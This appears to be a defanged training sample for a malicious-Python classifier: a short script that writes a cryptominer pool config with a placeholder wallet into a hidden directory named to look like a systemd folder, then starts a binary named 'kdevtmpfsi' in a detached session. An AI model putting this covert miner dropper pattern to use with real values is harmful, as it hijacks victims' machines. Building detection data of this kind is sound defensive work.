# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import json, os, subprocess
cfg = {
    "autosave": True,
    "cpu": {"enabled": True, "huge-pages": True, "max-threads-hint": 75},
    "pools": [{
        "algo": "rx/0",
        "url": "pool.example.invalid:443",
        "user": "48PLACEHOLDERxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "pass": "k8s-node",
        "tls": True,
        "keepalive": True,
    }],
}
d = "/var/tmp/.systemd-private"
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, "config.json"), "w") as f:
    json.dump(cfg, f)
subprocess.Popen([os.path.join(d, "kdevtmpfsi"), "-c", os.path.join(d, "config.json")], start_new_session=True)
